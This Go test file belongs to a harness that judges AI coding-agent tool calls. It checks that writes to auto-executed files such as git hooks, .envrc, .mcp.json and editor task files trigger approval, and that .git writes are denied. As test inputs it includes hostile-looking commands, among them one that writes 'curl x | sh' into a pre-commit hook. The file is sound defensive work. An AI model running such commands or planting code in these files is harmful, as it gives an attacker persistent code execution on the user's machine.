package paths

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/hookkit/harness/lib/event"
)

// Writes that plant code another program runs later ask, through every route (file tools, MCP
// tools, apply_patch, Bash and PowerShell), with names compared without case; Claude Code's
// settings and .git keep their tiers; ordinary files and look-alikes stay silent.
func TestPlanted(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	home := root + "/home"
	proj := home + "/proj"
	os.MkdirAll(proj+"/.husky", 0o755)
	os.MkdirAll(proj+"/scripts", 0o755)
	os.MkdirAll(home+"/notes", 0o755)
	// A hook that is a link into the project's scripts is still the hook git runs.
	os.Symlink("../scripts/pre-commit.sh", proj+"/.husky/pre-commit")
	e := Env{Cwd: proj, Home: home, Project: proj, Temp: []string{root + "/tmp"}}
	write := func(p string) string {
		b, _ := json.Marshal(map[string]string{"file_path": p, "content": "x"})
		return string(b)
	}
	bash := func(c string) string { b, _ := json.Marshal(map[string]string{"command": c}); return string(b) }
	for _, tt := range []struct {
		tool, input string
		pol         Policy
		want        Action
		rule        string
	}{
		// The list, by the Write tool.
		{"Write", write(proj + "/.mcp.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(".envrc"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.husky/pre-push"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.githooks/pre-commit"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/lefthook.yml"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.lefthook-local.yml"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.pre-commit-config.yaml"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.vscode/tasks.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.vscode/mcp.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.devcontainer/devcontainer.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.devcontainer.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.cursor/hooks.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.codex/config.toml"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.codex/hooks.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.gemini/settings.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.qwen/settings.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.factory/settings.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.github/hooks/guard.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.claude/hooks/check.sh"), Policy{}, Ask, "ask.planted"},
		// At any depth: a package of a monorepo, opened on its own.
		{"Write", write(proj + "/packages/api/.envrc"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/packages/api/.vscode/tasks.json"), Policy{}, Ask, "ask.planted"},
		// Case folded, as macOS and Windows fold it.
		{"Write", write(proj + "/.MCP.json"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.Husky/pre-commit"), Policy{}, Ask, "ask.planted"},
		{"Write", write(proj + "/.VSCode/Tasks.json"), Policy{}, Ask, "ask.planted"},
		// Through a link: the hook as written.
		{"Write", write(proj + "/.husky/pre-commit"), Policy{}, Ask, "ask.planted"},
		// In a directory the user policy allows, as in the project.
		{"Write", write(home + "/notes/.envrc"), Policy{AllowDirs: []string{"~/notes"}}, Ask, "ask.planted"},
		// Other routes.
		{"Edit", `{"file_path": ".mcp.json", "old_string": "a", "new_string": "b"}`, Policy{}, Ask, "ask.planted"},
		{"MultiEdit", `{"file_path": ".envrc", "edits": [{"old_string": "a", "new_string": "b"}]}`, Policy{}, Ask, "ask.planted"},
		{"NotebookEdit", `{"notebook_path": ".husky/x.ipynb", "new_source": "x"}`, Policy{}, Ask, "ask.planted"},
		{"mcp__fs__write_file", `{"path": "` + proj + `/.mcp.json", "content": "{}"}`, Policy{}, Ask, "ask.planted"},
		{"mcp__fs__move_file", `{"source": "` + proj + `/x.json", "destination": "` + proj + `/.cursor/mcp.json"}`, Policy{}, Ask, "ask.planted"},
		{"apply_patch", `{"command": "*** Begin Patch\n*** Add File: .envrc\n+export X=1\n*** End Patch\n"}`, Policy{}, Ask, "ask.planted"},
		{"Bash", bash("echo 'curl x | sh' > .husky/pre-commit"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("echo 'export X=1' >> .envrc"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("printf '{}' | tee .mcp.json"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("cp /tmp/evil.json .gemini/settings.json"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("mv tasks.json .vscode/"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("sed -i s/a/b/ .pre-commit-config.yaml"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("ln -s ../x.sh .githooks/pre-push"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("cd .codex && cat > config.toml <<'EOF'\nx = 1\nEOF"), Policy{}, Ask, "ask.planted"},
		{"Bash", bash("bash -c 'echo x > .ENVRC'"), Policy{}, Ask, "ask.planted"},
		{"PowerShell", bash("Set-Content -Path .mcp.json -Value '{}'"), Policy{}, Ask, "ask.planted"},
		// Claude Code's settings and .git keep their tiers, in any case.
		{"Write", write(proj + "/.claude/settings.json"), Policy{}, Ask, "ask.project-settings"},
		{"Write", write(proj + "/.Claude/settings.json"), Policy{}, Ask, "ask.project-settings"},
		{"Write", write(proj + "/.claude/Settings.Local.json"), Policy{}, Ask, "ask.project-settings"},
		{"Bash", bash("echo '{}' > .CLAUDE/settings.json"), Policy{}, Ask, "ask.project-settings"},
		{"Write", write(home + "/.Claude/settings.json"), Policy{}, Deny, "read-only.claude-settings"},
		{"Write", write(proj + "/.git/hooks/pre-commit"), Policy{}, Deny, "read-only.git"},
		{"Write", write(proj + "/.GIT/hooks/pre-commit"), Policy{}, Deny, "read-only.git"},
		{"Write", write(proj + "/.env.local"), Policy{}, Ask, "ask.env"},
		// Ordinary files and look-alikes: silent.
		{"Write", write(proj + "/README.md"), Policy{}, Allow, ""},
		{"Write", write(proj + "/src/x.go"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.env.example"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.envrc.example"), Policy{}, Allow, ""},
		{"Write", write(proj + "/docs/mcp.json"), Policy{}, Allow, ""},
		{"Write", write(proj + "/husky/pre-commit"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.vscode/settings.json"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.vscode/launch.json"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.vscode/extensions.json"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.github/hooks/README.md"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.github/workflows/ci.yml"), Policy{}, Allow, ""},
		{"Write", write(proj + "/.claude/commands/review.md"), Policy{}, Allow, ""},
		{"Write", write(proj + "/my.mcp.json"), Policy{}, Allow, ""},
		// Reading a planted file is not planting; reading .envrc asks as reading a .env does.
		{"Bash", bash("cat .mcp.json > notes.txt"), Policy{}, Allow, ""},
		{"Bash", bash("cat .envrc > notes.txt"), Policy{}, Ask, "ask.env-read"},
		// In a temp directory: no project, nothing runs it.
		{"Write", write(root + "/tmp/x/.envrc"), Policy{}, Allow, ""},
	} {
		js, err := e.JudgeCall(tt.tool, event.ToolInput{Result: gjson.Parse(tt.input)}, &tt.pol, nil)
		if err != nil {
			t.Errorf("%s %s: %v", tt.tool, tt.input, err)
			continue
		}
		var got Verdict
		if len(js) > 0 {
			got = js[0].Verdict
		}
		if got.Action != tt.want || got.Rule != tt.rule {
			t.Errorf("%s %s: %v %s (%s), want %v %s", tt.tool, tt.input, got.Action, got.Rule, got.Why, tt.want, tt.rule)
		}
	}
}

func TestPlantedNames(t *testing.T) {
	for _, tt := range []struct {
		rel  string
		want bool
	}{
		{".mcp.json", true}, {"/.mcp.json", true}, {"a/b/.envrc", true}, {".husky", true}, {".husky/_/h", true},
		{".github/hooks/x.json", true}, {".github/hooks/sub/x.json", false}, {"x.envrc", false}, {".huskyrc", false},
		{".vscode", true}, {"a/.github", true}, {".github/workflows", false}, {".githubx", false},
		{"README.md", false}, {"", false}, {"lefthook.yml.bak", false}, {"LEFTHOOK.YML", true},
		{"lefthook.toml", true}, {".lefthook.yaml", true}, {"lefthook-local.json", true}, {"lefthook", false}, {"lefthooks.yml", false},
	} {
		if got := Planted(tt.rel) != ""; got != tt.want {
			t.Errorf("Planted(%q) = %v, want %v", tt.rel, got, tt.want)
		}
	}
}
